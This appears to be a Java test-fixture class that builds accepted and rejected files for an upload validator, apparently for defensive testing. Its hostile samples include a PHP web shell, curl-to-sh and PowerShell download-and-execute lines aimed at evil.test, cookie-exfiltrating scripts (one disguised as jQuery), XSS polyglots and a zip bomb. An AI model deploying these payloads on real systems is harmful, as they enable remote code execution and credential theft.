package io.clientworkspace.file;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.security.NoSuchAlgorithmException;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * File contents for the tests, all made on the fly: real minimal documents and images that must be
 * accepted, and the hostile ones (executables, scripts, archives that explode or escape) that must not.
 */
final class Samples {

    private Samples() {
    }

    // ------------------------------------------------------------------------------------- legit files

    /** A real, minimal, well-formed one-page PDF (with a correct cross-reference table). */
    static byte[] pdf() {
        return pdf("Hello");
    }

    /** A real one-page PDF whose text is {@code text}, so different PDFs have different bytes. */
    static byte[] pdf(String text) {
        String stream = "BT /F1 12 Tf 20 100 Td (" + text + ") Tj ET";
        List<String> objects = List.of(
                "<< /Type /Catalog /Pages 2 0 R >>",
                "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R"
                        + " /Resources << /Font << /F1 5 0 R >> >> >>",
                "<< /Length " + stream.length() + " >>\nstream\n" + stream + "\nendstream",
                "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>");
        StringBuilder pdf = new StringBuilder("%PDF-1.4\n%\u00e2\u00e3\u00cf\u00d3\n");
        List<Integer> offsets = new ArrayList<>();
        for (int i = 0; i < objects.size(); i++) {
            offsets.add(pdf.length());
            pdf.append(i + 1).append(" 0 obj\n").append(objects.get(i)).append("\nendobj\n");
        }
        int xref = pdf.length();
        pdf.append("xref\n0 ").append(objects.size() + 1).append("\n0000000000 65535 f \n");
        offsets.forEach(o -> pdf.append(String.format("%010d 00000 n \n", o)));
        pdf.append("trailer\n<< /Size ").append(objects.size() + 1).append(" /Root 1 0 R >>\nstartxref\n")
                .append(xref).append("\n%%EOF\n");
        return latin1(pdf.toString());
    }

    /** A real 2x2 PNG image. */
    static byte[] png() {
        return image("png");
    }

    /** A real 2x2 JPEG image. */
    static byte[] jpeg() {
        return image("jpg");
    }

    /** A small CSV export. */
    static byte[] csv() {
        return ascii("invoice,client,amount\nINV-1,Acme Corp,120.00\nINV-2,Acme Corp,80.50\n");
    }

    /** Plain text. */
    static byte[] text(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    /** A zip shaped like a Word document: [Content_Types].xml, the relationships and word/document.xml. */
    static byte[] docx() {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        entries.put("[Content_Types].xml", ascii("<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
                + "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
                + "<Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/>"
                + "<Default Extension=\"xml\" ContentType=\"application/xml\"/>"
                + "<Override PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument"
                + ".wordprocessingml.document.main+xml\"/></Types>"));
        entries.put("_rels/.rels", ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
                + "<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships"
                + "/officeDocument\" Target=\"word/document.xml\"/></Relationships>"));
        entries.put("word/document.xml", ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
                + "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\">"
                + "<w:body><w:p><w:r><w:t>Statement of work</w:t></w:r></w:p></w:body></w:document>"));
        return zip(entries);
    }

    // ------------------------------------------------------------------------------------- hostile files

    /** The start of a Windows PE executable: MZ header pointing at a PE signature. */
    static byte[] windowsExecutable() {
        byte[] exe = new byte[1024];
        exe[0] = 'M';
        exe[1] = 'Z';
        exe[0x3c] = (byte) 0x80;
        exe[0x80] = 'P';
        exe[0x81] = 'E';
        return exe;
    }

    /** The start of a 64-bit Linux ELF executable. */
    static byte[] elfExecutable() {
        byte[] elf = new byte[512];
        elf[0] = 0x7f;
        elf[1] = 'E';
        elf[2] = 'L';
        elf[3] = 'F';
        elf[4] = 2;
        elf[5] = 1;
        elf[6] = 1;
        elf[16] = 2;
        elf[18] = 0x3e;
        return elf;
    }

    /** An HTML page with a script. */
    static byte[] html() {
        return ascii("<!DOCTYPE html>\n<html><head><title>Invoice</title></head>\n"
                + "<body><script>fetch('https://evil.test/?c=' + document.cookie)</script></body></html>\n");
    }

    /** An SVG image carrying a script. */
    static byte[] svgWithScript() {
        return ascii("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\""
                + " height=\"10\"><script type=\"text/javascript\">alert(document.domain)</script></svg>\n");
    }

    /** A JavaScript library (it starts like jQuery's minified build). */
    static byte[] javascriptLibrary() {
        return ascii("/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors | jquery.org/license */\n"
                + "!function(e,t){\"use strict\";fetch(\"https://evil.test/?c=\"+document.cookie)}(window);\n");
    }

    /** A PHP web shell. */
    static byte[] phpShell() {
        return ascii("<?php system($_GET['cmd']); ?>\n");
    }

    /** A shell script. */
    static byte[] shellScript() {
        return ascii("#!/bin/sh\ncurl -s https://evil.test/payload | sh\n");
    }

    /** A Windows batch file. */
    static byte[] batchFile() {
        return ascii("@echo off\r\npowershell -c \"iwr https://evil.test/p.ps1 | iex\"\r\n");
    }

    /** VBScript. */
    static byte[] vbScript() {
        return ascii("Set shell = CreateObject(\"WScript.Shell\")\r\nshell.Run \"calc.exe\"\r\n");
    }

    /** A file that is a PDF by its first bytes and an HTML page with a script after them. */
    static byte[] pdfHtmlPolyglot() {
        return latin1("%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n"
                + new String(pdf(), StandardCharsets.ISO_8859_1).substring("%PDF-1.4\n".length()));
    }

    /** The classic GIF/JavaScript polyglot: a GIF header that is also the start of a script. */
    static byte[] gifJavascriptPolyglot() {
        return latin1("GIF89a/*\u0001\u0000\u0001\u0000\u0000\u0000\u0000*/=1;alert(document.domain);//\u0000;");
    }

    /** A real PDF with a zip archive (holding a shell script) appended. */
    static byte[] pdfWithTrailingZip() {
        return concat(pdf(), zip(Map.of("evil.sh", shellScript())));
    }

    // ------------------------------------------------------------------------------------- archives

    /** A zip archive with these entries, in this order. */
    static byte[] zip(Map<String, byte[]> entries) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            for (Map.Entry<String, byte[]> e : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(e.getKey()));
                zip.write(e.getValue());
                zip.closeEntry();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return bytes.toByteArray();
    }

    /** A zip archive with {@code count} tiny entries. */
    static byte[] zipWithEntries(int count) {
        Map<String, byte[]> entries = new LinkedHashMap<>();
        for (int i = 0; i < count; i++) {
            entries.put("f" + i, new byte[] {(byte) i});
        }
        return zip(entries);
    }

    /**
     * A zip bomb: a zip of about one kilobyte per mebibyte holding one entry of {@code mebibytes} MiB of
     * zeros. Made without deflating all of it: once deflate reaches its steady state, each further
     * mebibyte of zeros compresses to the same bytes, so those are repeated.
     */
    static byte[] zipBomb(String entryName, int mebibytes) {
        if (mebibytes < 3) {
            throw new IllegalArgumentException("at least 3 MiB");
        }
        return ArchiveSamples.raw(ArchiveSamples.zerosEntry(entryName, mebibytes));
    }

    // ------------------------------------------------------------------------------------- helpers

    static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    static byte[] ascii(String text) {
        return text.getBytes(StandardCharsets.US_ASCII);
    }

    static byte[] latin1(String text) {
        return text.getBytes(StandardCharsets.ISO_8859_1);
    }

    /** Hex SHA-256 of the bytes, computed independently of the code under test. */
    static String sha256(byte[] bytes) {
        return HexFormat.of().formatHex(digest().digest(bytes));
    }

    static MessageDigest digest() {
        try {
            return MessageDigest.getInstance("SHA-256");
        } catch (NoSuchAlgorithmException e) {
            throw new IllegalStateException(e);
        }
    }

    private static byte[] image(String format) {
        BufferedImage image = new BufferedImage(2, 2, BufferedImage.TYPE_INT_RGB);
        image.setRGB(0, 0, 0xff0000);
        image.setRGB(1, 1, 0x0000ff);
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            if (!ImageIO.write(image, format, out)) {
                throw new IllegalStateException("no ImageIO writer for " + format);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }
}
